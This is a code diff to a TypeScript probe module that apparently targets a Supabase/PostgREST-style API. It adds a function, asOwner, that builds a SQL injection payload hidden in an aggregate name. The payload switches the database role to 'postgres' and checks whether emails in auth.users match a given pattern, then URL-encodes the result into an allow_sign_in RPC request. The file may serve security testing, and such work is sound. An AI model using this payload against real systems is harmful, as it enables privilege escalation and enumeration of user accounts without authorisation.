@@ -202,3 +202,22 @@ export const inheritedNames: Door[] = inherited.flatMap((name) => [
   {path: `/rest/v1/rpc/count_waitlist?${name}=x`},
   {path: '/rest/v1/waitlist?limit=0', headers: {prefer: `${name}=x`}},
 ])
+
+/** SQL in the name of an aggregate, which would become the database's owner and look for an account. */
+export function asOwner(pattern: string): Door {
+  const aggregate = `(case when set_config('role', 'postgres', true) = 'postgres' then exists(
+    select from ts_stat('select to_tsvector(''simple'', email) from auth.users where email like ''${pattern}''')
+  ) end) and bool_or`
+  const tree = {
+    type: 'query',
+    from: 'pg_class',
+    schema: 'pg_catalog',
+    select: [{x: {column: 'relrowsecurity', aggregate}}],
+    where: {relname: {$eq: 'waitlist'}},
+  }
+  const value = encodeURIComponent(JSON.stringify(tree))
+  return {
+    ...call('allow_sign_in', {email: 'x'}),
+    path: `/rest/v1/rpc/allow_sign_in?allow_sign_in=eq.${value}`,
+  }
+}
